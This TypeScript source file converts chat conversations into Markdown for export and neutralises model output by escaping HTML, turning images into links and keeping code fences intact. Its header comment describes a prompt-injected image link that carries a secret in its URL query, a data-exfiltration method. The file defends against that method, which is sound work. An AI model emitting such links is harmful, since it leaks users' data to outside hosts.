// A conversation as a Markdown document, neutralised the way the chat shows
// it: what a model wrote is text, never a live resource. Images become links
// (a prompt-injected `![](https://host/?d=secret)` would otherwise load in
// VS Code's preview or on a git host), raw HTML is escaped, and reasoning is
// a fenced block rather than `<details>`. Fenced code blocks and inline code
// stay exactly as written. The scan is one pass over the lines and errs on
// the safe side: only a fence opened at the start of a line (column 0) is
// kept verbatim, because a renderer ends an indented fence with its list
// item or quote and would then read what follows as Markdown.
import { attachmentLabel, fenceFor } from './attachments';
import type { Attachment, ChatMessage, Conversation } from './types';

/** A fence opener at column 0: ``` (info without backticks) or ~~~. */
const OPENER = /^(`{3,})[^`]*$|^(~{3,}).*$/;

/** Text outside code: `<` escaped, `![` turned into a link. (split/join: far cheaper than a regex when matches are many.) */
function neutralizeText(text: string): string {
  const escaped = text.includes('<') ? text.split('<').join('&lt;') : text;
  return escaped.includes('![') ? escaped.split('![').join('[🖼 ') : escaped;
}

/** One line outside code blocks: inline code kept, `<` escaped, images turned into links. */
function neutralizeLine(line: string): string {
  if (!line.includes('`')) return neutralizeText(line);
  let out = '';
  let at = 0;
  while (at < line.length) {
    let tick = line.indexOf('`', at);
    // A backslash-escaped backtick opens no code span.
    while (tick !== -1 && escaped(line, tick)) tick = line.indexOf('`', tick + 1);
    const plain = tick === -1 ? line.slice(at) : line.slice(at, tick);
    out += neutralizeText(plain);
    if (tick === -1) break;
    // A code span: a run of n backticks up to the next run of exactly n.
    let run = tick;
    while (line[run] === '`') run++;
    const n = run - tick;
    let close = -1;
    for (let i = line.indexOf('`', run); i !== -1;) {
      let end = i;
      while (line[end] === '`') end++;
      if (end - i === n) {
        close = i;
        break;
      }
      i = line.indexOf('`', end);
    }
    if (close === -1) {
      // No closer on this line: the backticks are text (a span over several lines is escaped: harmless).
      out += line.slice(tick, run);
      at = run;
    } else {
      out += line.slice(tick, close + n);
      at = close + n;
    }
  }
  return out;
}

function escaped(line: string, at: number): boolean {
  let backslashes = 0;
  for (let i = at - 1; i >= 0 && line[i] === '\\'; i--) backslashes++;
  return backslashes % 2 === 1;
}

/** Markdown a model (or a server) wrote, safe to open in a previewer: see the file comment. */
export function neutralizeMarkdown(text: string): string {
  if (!text.includes('`') && !text.includes('~')) return neutralizeText(text); // no code at all: one pass
  const out: string[] = [];
  let fence: { char: string; length: number } | undefined;
  for (const line of text.split('\n')) {
    if (fence) {
      out.push(line);
      const closer = line.includes(fence.char) ? /^ {0,3}(`+|~+)[ \t]*\r?$/.exec(line) : null;
      if (closer && closer[1][0] === fence.char && closer[1].length >= fence.length) fence = undefined;
      continue;
    }
    const first = line.charCodeAt(0);
    const opener = first === 96 /* ` */ || first === 126 /* ~ */ ? OPENER.exec(line.replace(/\r$/, '')) : null;
    if (opener) {
      const marks = opener[1] ?? opener[2];
      fence = { char: marks[0], length: marks.length };
      out.push(line);
      continue;
    }
    out.push(neutralizeLine(line));
  }
  return out.join('\n');
}

function statsLine(m: ChatMessage): string | undefined {
  const s = m.stats;
  if (!s) return undefined;
  const parts = [s.model];
  if (s.completionTokens !== undefined) parts.push(`${s.completionTokens} tokens`);
  if (s.tokensPerSecond !== undefined) parts.push(`${s.tokensPerSecond} tokens/s`);
  if (s.stopped) parts.push('stopped');
  return `_${neutralizeLine(parts.join(' · '))}_`;
}

function attachments(items: readonly Attachment[] | undefined): string | undefined {
  if (!items?.length) return undefined;
  return `_Attached: ${items.map((i) => neutralizeLine(`\`${attachmentLabel(i).replace(/`/g, "'")}\``)).join(', ')}_`;
}

/** Reasoning as a fenced block that nothing inside can close. */
function reasoningBlock(text: string): string[] {
  const body = text.trim();
  const fence = fenceFor(body);
  return ['**Reasoning**', '', `${fence}text`, body, fence, ''];
}

/** The conversation as a Markdown document. */
export function toMarkdown(conv: Conversation): string {
  const title = neutralizeLine(conv.title.replace(/\s+/g, ' '));
  const out: string[] = [`# ${title}`, ''];
  const model = conv.model ? ` · ${conv.model.model} on ${conv.model.server}` : '';
  out.push(`_${neutralizeLine(`Exported from Hearth · started ${new Date(conv.created).toISOString()}${model}`)}_`, '');
  for (const m of conv.messages) {
    out.push(m.role === 'user' ? '## You' : '## Assistant', '');
    const extra = m.role === 'user' ? attachments(m.attachments) : undefined;
    if (extra) out.push(extra, '');
    if (m.reasoning?.trim()) out.push(...reasoningBlock(m.reasoning));
    if (m.content) out.push(neutralizeMarkdown(m.content.trim()), '');
    if (m.error) out.push(`> **Error:** ${neutralizeLine(m.error.message.replace(/\s+/g, ' '))}`, '');
    const stats = statsLine(m);
    if (stats) out.push(stats, '');
  }
  return out.join('\n').trimEnd() + '\n';
}
